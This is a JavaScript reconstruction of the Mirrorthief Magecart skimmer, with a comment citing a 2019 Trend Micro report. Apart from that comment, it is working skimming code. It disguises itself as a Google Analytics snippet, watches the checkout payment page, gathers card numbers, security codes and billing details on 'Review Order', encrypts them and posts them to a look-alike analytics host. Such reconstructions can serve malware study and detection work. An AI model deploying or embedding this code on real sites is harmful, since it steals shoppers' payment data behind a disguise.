// mirrorthief, written from Trend Micro (Joseph C. Chen), "Mirrorthief Group Uses Magecart
// Skimming Attack to Hit Hundreds of Campus Online Stores in US and Canada" (2019): a skimmer
// appended to a campus-store platform's shared JavaScript, disguised as a Google Analytics
// snippet, that on the payment page copies the card and billing fields when "Review order" is
// clicked, AES-encrypts them and sends them to a look-alike analytics host (here .invalid).
(function (i, s, o, g, r) {
  i.GoogleAnalyticsObject = r;
  i[r] = i[r] || function () { (i[r].q = i[r].q || []).push(arguments); };
  i[r].l = 1 * new Date();
  i[r]("create", "UA-" + "41216093-1", "auto");
})(window, document, "script", "", "ga");
(function () {
  if (location.pathname.indexOf("/checkout/payment") < 0) return;
  var ids = ["cardNumber", "cardExpirationMonth", "cardExpirationYear", "cardSecurityCode", "billFirstName",
    "billLastName", "billAddress1", "billCity", "billState", "billZip", "billPhone", "billEmail"];
  function collect() {
    var out = {};
    ids.forEach(function (k) { var e = document.getElementById(k); if (e) out[k] = e.value; });
    return JSON.stringify(out);
  }
  function enc(text) {
    // CryptoJS is shipped by the platform for its own use; the key is fixed in the script
    var key = CryptoJS.enc.Utf8.parse("8e1b7c2d4f6a9e0b"), iv = CryptoJS.enc.Utf8.parse("0a1b2c3d4e5f6071");
    return CryptoJS.AES.encrypt(text, key, { iv: iv }).toString();
  }
  document.addEventListener("click", function (e) {
    if (!e.target.closest("#reviewOrder, input[value='Review Order']")) return;
    var payload = enc(collect());
    var x = new XMLHttpRequest();
    x.open("POST", "https://ssl-google-analytics.invalid/__utm.gif", true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("utmac=" + encodeURIComponent(payload) + "&utmhn=" + location.hostname);
  }, true);
})();
